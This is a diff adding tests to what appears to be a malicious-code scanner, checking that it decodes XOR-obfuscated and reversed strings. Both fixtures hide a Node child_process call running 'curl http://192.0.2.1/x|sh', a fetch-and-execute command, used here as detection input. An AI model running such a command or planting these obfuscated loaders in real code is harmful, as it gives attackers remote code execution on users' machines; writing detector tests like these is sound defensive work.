@@ -26,3 +26,23 @@ describe('JS-005 dynamic-code-execution', () => {
     );
   });
 });
+
+describe('constant folding of decoders', () => {
+  it('folds XOR-decoded char codes and analyses the result as code', async () => {
+    const key = 23;
+    const codes = [..."require('child_process').exec('curl http://192.0.2.1/x|sh')"].map(
+      (c) => c.charCodeAt(0) ^ key,
+    );
+    const code = `const k = ${key}; const d = String.fromCharCode(...[${codes.join(',')}].map(c => c ^ k)); eval(d);`;
+    const all = await jsFindings({ 'index.js': code });
+    expect(all.find((f) => f.ruleId === 'JS-005')?.severity).toBe('high');
+    expect(all.find((f) => f.ruleId === 'JS-001')?.evidence?.decodedDepth).toBe(1);
+  });
+  it('folds reversed and joined strings', async () => {
+    const f = await ruleFindings(
+      'JS-001',
+      "require('child_process').exec('hs | 1.2.0.291//:ptth lruc'.split('').reverse().join(''))",
+    );
+    expect(f[0]?.severity).toBe('critical');
+  });
+});
